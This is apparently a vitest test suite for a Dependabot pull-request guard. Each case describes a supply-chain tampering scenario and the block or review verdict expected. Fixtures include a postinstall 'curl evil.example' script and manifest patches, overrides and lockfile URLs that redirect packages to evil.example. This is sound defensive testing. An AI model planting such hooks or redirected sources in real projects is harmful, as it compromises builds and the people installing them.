import { describe, expect, test } from 'vitest';
import type { Result } from '../../../src/core/result-schema.ts';
import type { PullRequestRecord } from '../../rig/github/pull-requests.ts';
import { osvRecord } from './published.ts';
import {
  cargoLock,
  cargoManifest,
  commitMessage,
  cratesIo,
  packageJson,
  packageLock,
} from './sample-repository.ts';
import {
  crates,
  lockedAfter,
  modulesAfter,
  modulesBefore,
  type Scene,
  type SceneOptions,
  serdeUpdate,
  setScene,
  webUpdate,
} from './scene.ts';

interface Tampering {
  readonly scene?: SceneOptions;
  readonly open: (scene: Scene) => Promise<PullRequestRecord> | PullRequestRecord;
  readonly decision: 'review' | 'block';
  readonly code: string;
  readonly says: RegExp;
}

async function judge({ scene: options, open }: Tampering): Promise<Result> {
  const scene = await setScene(options);
  const result = await scene.run(await open(scene));
  expect(scene.github.violations).toEqual([]);
  return result;
}

async function honestFiles() {
  return {
    'Cargo.toml': cargoManifest('1.0.2'),
    'Cargo.lock': await cargoLock(lockedAfter(), crates),
  };
}

/** An honest commit with another on top of it. */
async function onTop(
  scene: Scene,
  more: Parameters<Scene['commit']>[2],
  files: Parameters<Scene['commit']>[0] = { 'Cargo.toml': cargoManifest('1.0.2', '#') },
) {
  const first = scene.commit(await honestFiles(), [serdeUpdate]);
  return scene.open(scene.commit(files, [serdeUpdate], more, first));
}

const hitsNew = [{ introduced: '1.0.2' }];

const tamperings: Record<string, Tampering> = {
  'a commit of a person on top': {
    open: (scene) => onTop(scene, { author: 'mallory', committer: 'mallory' }),
    ...{ decision: 'review', code: 'untrusted-author', says: /is by mallory/ },
  },
  'a commit on top that calls itself Dependabot, without a signature': {
    open: (scene) => onTop(scene, { isVerified: false }),
    ...{ decision: 'review', code: 'unverified-commit', says: /no verified signature/ },
  },
  'a commit by Dependabot that somebody else committed': {
    open: (scene) => onTop(scene, { committer: 'mallory' }),
    ...{ decision: 'review', code: 'untrusted-author', says: /committed by mallory/ },
  },
  'a merge of another branch': {
    open: async (scene) => {
      const other = scene.git.commit({ files: { 'Cargo.toml': '' } });
      const first = scene.commit(await honestFiles(), [serdeUpdate]);
      const parents = [first, other];
      return scene.open(scene.commit({}, [serdeUpdate], { parents }));
    },
    ...{ decision: 'review', code: 'unverified-commit', says: /does not follow/ },
  },
  'a pull request of an account with a similar name': {
    open: async (scene) =>
      scene.open(scene.commit(await honestFiles(), [serdeUpdate]), {
        author: 'dependab0t',
      }),
    ...{ decision: 'review', code: 'untrusted-author', says: /by dependab0t/ },
  },
  'a branch of a fork': {
    open: async (scene) =>
      scene.open(scene.commit(await honestFiles(), [serdeUpdate]), {
        headRepository: 'mallory/exchange',
      }),
    ...{ decision: 'review', code: 'untrusted-author', says: /lies in mallory/ },
  },
  'a branch of another name': {
    open: async (scene) =>
      scene.open(scene.commit(await honestFiles(), [serdeUpdate]), {
        headBranch: 'serde',
      }),
    ...{ decision: 'review', code: 'untrusted-author', says: /none of Dependabot's/ },
  },
  'a source file as well': {
    open: (scene) => scene.openCargo(lockedAfter(), { 'src/main.rs': 'fn main() { }' }),
    ...{ decision: 'review', code: 'unexpected-file', says: /src\/main\.rs/ },
  },
  'a file of cargo that is no manifest': {
    open: (scene) => scene.openCargo(lockedAfter(), { '.cargo/config.toml': '[build]' }),
    ...{ decision: 'review', code: 'unexpected-file', says: /\.cargo\/config\.toml/ },
  },
  'a manifest of another ecosystem': {
    open: (scene) => scene.openCargo(lockedAfter(), { 'package.json': packageJson({}) }),
    ...{ decision: 'review', code: 'unexpected-file', says: /package\.json is no file/ },
  },
  'a workflow as well': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), { '.github/workflows/ci.yml': 'jobs: {}\n' }),
    ...{ decision: 'review', code: 'needs-review', says: /what workflows run/ },
  },
  'a manifest that is executable now': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {
        'Cargo.toml': { text: cargoManifest('1.0.2'), mode: '100755' },
      }),
    ...{ decision: 'review', code: 'unexpected-file', says: /changes its mode/ },
  },
  'a manifest that is a symbolic link now': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {
        'Cargo.toml': { text: '../elsewhere', mode: '120000' },
      }),
    ...{ decision: 'review', code: 'unexpected-file', says: /a symbolic link/ },
  },
  'a submodule': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), { vendor: { text: '', mode: '160000' } }),
    ...{ decision: 'review', code: 'unexpected-file', says: /vendor/ },
  },
  'a lockfile that is gone': {
    open: (scene) => scene.openCargo(lockedAfter(), { 'package-lock.json': null }),
    ...{ decision: 'review', code: 'unexpected-file', says: /package-lock\.json/ },
  },
  'a build script in the manifest': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {
        'Cargo.toml': cargoManifest('1.0.2', 'build = "evil.rs"'),
      }),
    ...{ decision: 'review', code: 'unexpected-change', says: /package\.build/ },
  },
  'a patch in the manifest': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {
        'Cargo.toml': `${cargoManifest('1.0.2')}\n[patch.crates-io]\nlog = { git = "https://evil.example/log" }\n`,
      }),
    ...{ decision: 'block', code: 'new-source', says: /patch/ },
  },
  'a dependency that is moved to git': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {
        'Cargo.toml': cargoManifest('1.0.2').replace(
          'log = { version = "0.4.1" }',
          'log = { version = "0.4.1", git = "https://evil.example/log" }',
        ),
      }),
    ...{ decision: 'block', code: 'new-source', says: /dependencies\.log\.git/ },
  },
  'a crate that is renamed in the manifest': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {
        'Cargo.toml': cargoManifest('1.0.2').replace(
          'log = { version = "0.4.1" }',
          'log = { version = "0.4.1", package = "evil" }',
        ),
      }),
    ...{ decision: 'review', code: 'unexpected-change', says: /log\.package/ },
  },
  'a requirement that takes everything now': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), { 'Cargo.toml': cargoManifest('>=1') }),
    ...{ decision: 'review', code: 'unexpected-change', says: /another kind/ },
  },
  'a requirement that nobody announced': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {
        'Cargo.toml': cargoManifest('1.0.2').replace('"0.3"', '"0.4"'),
      }),
    ...{ decision: 'review', code: 'unexpected-change', says: /no update of it/ },
  },
  'a script in package.json': {
    open: (scene) =>
      scene.openNpm(modulesAfter(), {
        'package.json': packageJson(
          { tool: '^2.0.0', web: '^4.2.0' },
          { scripts: { postinstall: 'curl evil.example' } },
        ),
      }),
    ...{ decision: 'review', code: 'unexpected-change', says: /scripts/ },
  },
  'an override in package.json': {
    open: (scene) =>
      scene.openNpm(modulesAfter(), {
        'package.json': packageJson(
          { tool: '^2.0.0', web: '^4.2.0' },
          { overrides: { mime: 'git+https://evil.example/mime' } },
        ),
      }),
    ...{ decision: 'block', code: 'new-source', says: /overrides/ },
  },
  'a package that is another one now': {
    open: (scene) =>
      scene.openNpm(modulesAfter(), {
        'package.json': packageJson({ tool: 'npm:evil@^1.0.0', web: '^4.2.0' }),
      }),
    ...{ decision: 'review', code: 'unexpected-change', says: /dependencies\.tool/ },
  },
  'a requirement that is an address now': {
    open: (scene) =>
      scene.openNpm(modulesAfter(), {
        'package.json': packageJson({
          tool: '^2.0.0',
          web: 'https://evil.example/a.tgz',
        }),
      }),
    ...{ decision: 'block', code: 'new-source', says: /dependencies\.web/ },
  },
  'another checksum of a crate that stays': {
    open: (scene) => scene.openCargo(lockedAfter({ log: { checksum: '0'.repeat(64) } })),
    ...{ decision: 'block', code: 'integrity-changed', says: /log 0\.4\.1 stays/ },
  },
  'another checksum of a package that stays': {
    open: (scene) => scene.openNpm(modulesAfter({ tool: { integrity: 'sha512-AAAA' } })),
    ...{ decision: 'block', code: 'integrity-changed', says: /tool 2\.0\.0 stays/ },
  },
  'a checksum that is not the registry’s': {
    open: (scene) =>
      scene.openCargo(
        lockedAfter({ serde: { version: '1.0.2', checksum: 'a'.repeat(64) } }),
      ),
    ...{ decision: 'block', code: 'integrity-changed', says: /not the registry's/ },
  },
  'no checksum at all': {
    open: (scene) =>
      scene.openNpm(modulesAfter({ web: { version: '4.2.0', integrity: undefined } })),
    ...{ decision: 'block', code: 'integrity-changed', says: /no checksum/ },
  },
  'a package from another host': {
    open: (scene) =>
      scene.openNpm(
        modulesAfter({
          web: { version: '4.2.0', resolved: 'https://evil.example/web/-/web-4.2.0.tgz' },
        }),
      ),
    ...{ decision: 'block', code: 'new-source', says: /evil\.example/ },
  },
  'a package from the place of another': {
    open: (scene) =>
      scene.openNpm(
        modulesAfter({
          web: {
            version: '4.2.0',
            resolved: 'https://registry.npmjs.org/evil/-/evil-1.0.0.tgz',
          },
        }),
      ),
    ...{ decision: 'block', code: 'new-source', says: /place of another/ },
  },
  'a package that stays, from another place': {
    open: (scene) =>
      scene.openNpm(
        modulesAfter({
          tool: { resolved: 'https://evil.example/tool/-/tool-2.0.0.tgz' },
        }),
      ),
    ...{ decision: 'block', code: 'new-source', says: /tool 2\.0\.0 stays/ },
  },
  'a crate from git': {
    open: (scene) =>
      scene.openCargo(
        lockedAfter({
          serde_core: {
            version: '1.0.2',
            source: `git+https://evil.example/serde#${'a'.repeat(40)}`,
          },
        }),
      ),
    ...{ decision: 'block', code: 'new-source', says: /comes from git/ },
  },
  'a crate from another registry': {
    open: (scene) =>
      scene.openCargo(
        lockedAfter({
          serde_core: { version: '1.0.2', source: 'registry+https://evil.example/index' },
        }),
      ),
    ...{ decision: 'block', code: 'new-source', says: /evil\.example/ },
  },
  'a crate that nobody needs': {
    open: (scene) =>
      scene.openCargo(lockedAfter({}, [{ name: 'evil', version: '1.0.0' }])),
    ...{ decision: 'review', code: 'unexpected-change', says: /evil 1\.0\.0 comes/ },
  },
  'a crate that only the lockfile says is needed': {
    open: (scene) =>
      scene.openCargo(
        lockedAfter({ serde: { version: '1.0.2', needs: ['evil', 'serde_core'] } }, [
          { name: 'evil', version: '1.0.0' },
        ]),
      ),
    ...{ decision: 'review', code: 'unexpected-change', says: /evil 1\.0\.0 comes/ },
  },
  'a package that only the lockfile says is needed': {
    open: (scene) =>
      scene.openNpm(
        modulesAfter(
          { web: { version: '4.2.0', needs: { mime: '^1.1.0', evil: '^1.0.0' } } },
          [{ name: 'evil', version: '1.0.0' }],
        ),
      ),
    ...{ decision: 'review', code: 'unexpected-change', says: /evil 1\.0\.0 comes/ },
  },
  'a package under the name of another': {
    open: (scene) => {
      const lock = packageLock({ tool: '^2.0.0', web: '^4.2.0' }, modulesAfter());
      const named = '"node_modules/mime":{"name":"evil",';
      return scene.openNpm(modulesAfter(), {
        'package-lock.json': lock.replace('"node_modules/mime":{', named),
      });
    },
    ...{ decision: 'block', code: 'new-source', says: /evil 1\.1\.0/ },
  },
  'another update that nobody announced': {
    open: (scene) => scene.openCargo(lockedAfter({ log: { version: '0.4.2' } })),
    ...{ decision: 'review', code: 'unexpected-change', says: /log 0\.4\.2 comes/ },
  },
  'a new dependency of what stays': {
    open: (scene) =>
      scene.openNpm(
        modulesAfter({ tool: { needs: { evil: '^1.0.0' } } }, [
          { name: 'evil', version: '1.0.0' },
        ]),
      ),
    ...{ decision: 'review', code: 'unexpected-change', says: /node_modules\/tool: dep/ },
  },
  'a command that is another one now': {
    open: (scene) => scene.openNpm(modulesAfter({ tool: { bin: { tsc: 'evil.js' } } })),
    ...{ decision: 'review', code: 'unexpected-change', says: /bin/ },
  },
  'another version than the announced one': {
    open: (scene) =>
      scene.openCargo(lockedAfter({ serde: { version: '1.1.0' } }), {
        'Cargo.toml': cargoManifest('1.0.2'),
      }),
    ...{ decision: 'block', code: 'unexpected-change', says: /1\.1\.0 comes/ },
  },
  'an announced version that does not come': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {}, [
        serdeUpdate,
        { name: 'log', from: '0.4.1', to: '0.4.2' },
      ]),
    ...{
      decision: 'review',
      code: 'unexpected-change',
      says: /log 0\.4\.2 is announced/,
    },
  },
  'a message with a second list of updates': {
    open: (scene) =>
      scene.openCargo(
        lockedAfter({ log: { version: '0.4.2' } }),
        {},
        `${commitMessage([serdeUpdate])}\n---\nupdated-dependencies:\n- dependency-name: log\n  dependency-version: 0.4.2\n...\n`,
      ),
    ...{ decision: 'review', code: 'unexpected-change', says: /more than one block/ },
  },
  'a new install script': {
    scene: {
      modules: [{ name: 'web', version: '4.2.0', needs: { mime: '^1.1.0' }, runs: true }],
    },
    open: (scene) => scene.openNpm(),
    ...{ decision: 'review', code: 'runs-on-install', says: /web 4\.2\.0 runs a script/ },
  },
  'a new build script': {
    scene: { crates: [{ name: 'serde_core', version: '1.0.2', runs: true }] },
    open: (scene) => scene.openCargo(),
    ...{ decision: 'review', code: 'runs-on-install', says: /serde_core 1\.0\.2 runs/ },
  },
  'a crate that is a procedural macro now': {
    scene: { crates: [{ name: 'serde_core', version: '1.0.2', isProcMacro: true }] },
    open: (scene) => scene.openCargo(),
    ...{ decision: 'review', code: 'runs-on-install', says: /a procedural macro/ },
  },
  'an older version for something that stays': {
    scene: {
      baseFiles: {
        'package-lock.json': packageLock({ tool: '^2.0.0', web: '^4.1.0' }, [
          ...modulesBefore.map((one) =>
            one.name === 'tool' ? { ...one, needs: { mime: '^1.0.0' } } : one,
          ),
          { name: 'tool/node_modules/mime', version: '1.2.0', resolved: undefined },
        ]),
      },
    },
    open: (scene) => scene.openNpm(modulesAfter({ tool: { needs: { mime: '^1.0.0' } } })),
    ...{ decision: 'review', code: 'unexpected-change', says: /tool is given mime 1\.1/ },
  },
  'a version that does not fit what comes': {
    scene: {
      baseFiles: {
        'package-lock.json': packageLock({ tool: '^2.0.0', web: '^4.1.0' }, [
          ...modulesBefore.map((one) =>
            one.name === 'tool' ? { ...one, needs: { mime: '^1.0.0' } } : one,
          ),
        ]),
      },
    },
    open: (scene) =>
      scene.openNpm(
        modulesAfter({
          mime: { version: '1.0.0' },
          tool: { needs: { mime: '^1.0.0' } },
        }),
      ),
    ...{ decision: 'review', code: 'unexpected-change', says: /which it does not take/ },
  },
  'another package for npm 6': {
    open: (scene) => {
      const dependencies = { tool: '^2.0.0', web: '^4.2.0' };
      const older = {
        evil: { version: '1.0.0', resolved: 'https://evil.example/a.tgz' },
      };
      const lock = JSON.parse(packageLock(dependencies, modulesAfter()));
      return scene.openNpm(modulesAfter(), {
        'package-lock.json': JSON.stringify({ ...lock, dependencies: older }),
      });
    },
    ...{ decision: 'review', code: 'unexpected-change', says: /what npm 6 reads/ },
  },
  'a lockfile of version 1': {
    open: (scene) =>
      scene.openNpm(modulesAfter(), {
        'package-lock.json': JSON.stringify({ lockfileVersion: 1, dependencies: {} }),
      }),
    ...{ decision: 'review', code: 'unexpected-change', says: /lockfileVersion/ },
  },
  'an address that was not there, of another package': {
    scene: {
      baseFiles: {
        'package-lock.json': packageLock(
          { tool: '^2.0.0', web: '^4.1.0' },
          modulesBefore.map((one) => ({ ...one, resolved: undefined })),
        ),
      },
    },
    open: (scene) =>
      scene.openNpm(
        modulesAfter({
          tool: { resolved: 'https://registry.npmjs.org/evil/-/evil-1.0.0.tgz' },
        }),
      ),
    ...{ decision: 'block', code: 'new-source', says: /tool 2\.0\.0 is fetched/ },
  },
  'thousands of changes': {
    open: (scene) => {
      const names = Array.from({ length: 3000 }, (_, index) => [`s${index}`, 'x']);
      const scripts = Object.fromEntries(names);
      return scene.openNpm(modulesAfter(), {
        'package.json': packageJson({ tool: '^2.0.0', web: '^4.2.0' }, { scripts }),
      });
    },
    ...{ decision: 'review', code: 'unexpected-change', says: /scripts/ },
  },
  'an announced version that another one leaves for': {
    open: (scene) =>
      scene.openCargo(lockedAfter(), {}, [{ ...serdeUpdate, from: '1.0.0' }]),
    ...{ decision: 'review', code: 'unexpected-change', says: /to leave 1\.0\.0/ },
  },
  'a release that is too fresh': {
    scene: { crates: [{ name: 'serde_core', version: '1.0.2', ageDays: 1 }] },
    open: (scene) => scene.openCargo(),
    ...{
      decision: 'review',
      code: 'too-fresh',
      says: /serde_core 1\.0\.2 was published only 1 d/,
    },
  },
  'a release of which nobody says when': {
    scene: { crates: [{ name: 'serde_core', version: '1.0.2', ageDays: -1 }] },
    open: (scene) => scene.openCargo(),
    ...{ decision: 'review', code: 'too-fresh', says: /Nobody says when/ },
  },
  'a fresh release above the lowest that clears': {
    scene: {
      modules: [
        { name: 'tool', version: '2.0.1', ageDays: 1 },
        { name: 'tool', version: '2.0.2', ageDays: 1 },
      ],
      advisories: [
        osvRecord('GHSA-cccc-dddd-eeee', 'npm', 'tool', [
          { introduced: '0' },
          { fixed: '2.0.1' },
        ]),
      ],
    },
    open: (scene) => {
      const lock = packageLock({ tool: '^2.0.0', web: '^4.1.0' }, [
        { name: 'mime', version: '1.0.0' },
        { name: 'tool', version: '2.0.2' },
        { name: 'web', version: '4.1.0', needs: { mime: '^1.0.0' } },
      ]);
      const update = { name: 'tool', from: '2.0.0', to: '2.0.2' };
      const head = scene.commit({ 'package-lock.json': lock }, [update]);
      return scene.open(head, {}, 'npm_and_yarn');
    },
    ...{ decision: 'review', code: 'too-fresh', says: /tool 2\.0\.2/ },
  },
  'a version with a vulnerability that nobody rated': {
    scene: {
      advisories: [osvRecord('RUSTSEC-2026-0002', 'crates.io', 'serde', hitsNew)],
    },
    open: (scene) => scene.openCargo(),
    ...{ decision: 'block', code: 'vulnerable', says: /RUSTSEC-2026-0002/ },
  },
  'a version with a small vulnerability': {
    scene: {
      advisories: [
        osvRecord('GHSA-ffff-gggg-hhhh', 'npm', 'mime', [{ introduced: '1.1.0' }], 'LOW'),
      ],
    },
    open: (scene) => scene.openNpm(),
    ...{ decision: 'review', code: 'vulnerable', says: /GHSA-ffff-gggg-hhhh/ },
  },
  'a malicious version': {
    scene: {
      advisories: [osvRecord('MAL-2026-1', 'npm', 'mime', [{ introduced: '1.1.0' }])],
    },
    open: (scene) => scene.openNpm(),
    ...{ decision: 'block', code: 'malicious', says: /MAL-2026-1/ },
  },
  'a yanked version': {
    scene: { crates: [{ name: 'serde_core', version: '1.0.2', yanked: true }] },
    open: (scene) => scene.openCargo(),
    ...{ decision: 'block', code: 'yanked', says: /serde_core 1\.0\.2 is yanked/ },
  },
  'a deprecated version': {
    scene: {
      modules: [{ name: 'mime', version: '1.1.0', deprecated: 'use <b>mime2</b>' }],
    },
    open: (scene) => scene.openNpm(),
    ...{ decision: 'review', code: 'deprecated', says: /is deprecated/ },
  },
  'a minor of 0.x': {
    open: (scene) =>
      scene.openCargo(
        lockedAfter({
          ...{ serde: { version: '1.0.1' }, serde_core: { version: '1.0.1' } },
          other: { version: '0.4.0' },
        }),
        { 'Cargo.toml': cargoManifest('1.0.1').replace('"0.3"', '"0.4"') },
        [{ name: 'other', from: '0.3.0', to: '0.4.0' }],
      ),
    ...{ decision: 'review', code: 'incompatible-update', says: /0\.3\.0 → 0\.4\.0/ },
  },
  'a way back': {
    open: (scene) => scene.openCargo(lockedAfter({ serde_core: { version: '1.0.0' } })),
    ...{ decision: 'block', code: 'incompatible-update', says: /goes back/ },
  },
  'a policy that is made weaker by itself': {
    open: (scene) =>
      scene.open(
        scene.commit(
          {
            Dockerfile: 'FROM rust:1.93.1-bookworm AS build\nRUN cargo build\n',
            '.github/dependency-policy.yml': 'allow: [docker]\n',
          },
          [{ name: 'rust', from: '1.93.0-bookworm', to: '1.93.1-bookworm' }],
        ),
        {},
        'docker',
      ),
    ...{ decision: 'review', code: 'needs-review', says: /does not allow/ },
  },
  'an ecosystem that is not read': {
    open: (scene) =>
      scene.open(scene.commit({ 'yarn.lock': '' }, [webUpdate]), {}, 'npm_and_yarn'),
    ...{ decision: 'review', code: 'needs-review', says: /yarn\.lock/ },
  },
  'an ecosystem that nobody has heard of': {
    open: (scene) => scene.open(scene.commit({ 'go.mod': '' }, [webUpdate]), {}, 'gomod'),
    ...{ decision: 'review', code: 'needs-review', says: /gomod/ },
  },
  'a lockfile that cannot be read': {
    open: (scene) => scene.openCargo(lockedAfter(), { 'Cargo.lock': '[[package' }),
    ...{ decision: 'review', code: 'needs-review', says: /Cargo\.lock/ },
  },
  'a patch in the lockfile': {
    open: async (scene) =>
      scene.openCargo(lockedAfter(), {
        'Cargo.lock': `${await cargoLock(lockedAfter(), crates)}\n[[patch.unused]]\nname = "log"\nversion = "0.4.9"\nsource = "${cratesIo}"\n`,
      }),
    ...{ decision: 'review', code: 'unexpected-change', says: /patch/ },
  },
};

describe('what was tampered with is not merged', () => {
  test.each(Object.entries(tamperings))('%s', async (_, tampering) => {
    const result = await judge(tampering);
    const found = result.findings.map(({ code, message }) => `${code}: ${message}`);
    expect(result.outputs?.['decision'], found.join('\n')).toBe(tampering.decision);
    const { code, says } = tampering;
    expect(found.filter((one) => one.startsWith(code)).join('\n')).toMatch(says);
    // Only what blocks is red.
    const isRed = result.outcome === 'attention';
    expect(isRed).toBe(tampering.decision === 'block');
  });
});

test('a branch that moves while it is looked at is not merged', async () => {
  const scene = await setScene();
  const pull = await scene.openCargo();
  const evil = scene.commit({ 'src/main.rs': 'evil' }, 'evil', {}, pull.headSha);
  // The registry is asked when the trees have been read.
  const { '/crates/se/rd/serde': honest } = scene.registry.routes;
  scene.registry.routes['/crates/se/rd/serde'] = () => {
    pull.headSha = evil;
    return honest as object;
  };
  const result = await scene.run(pull, { act: 'auto-merge' });
  expect(result.outputs?.['decision']).toBe('review');
  expect(result.findings.map(({ message }) => message)).toContain(
    'Its branch moved while it was looked at.',
  );
  expect(pull.autoMerge).toBeNull();
});
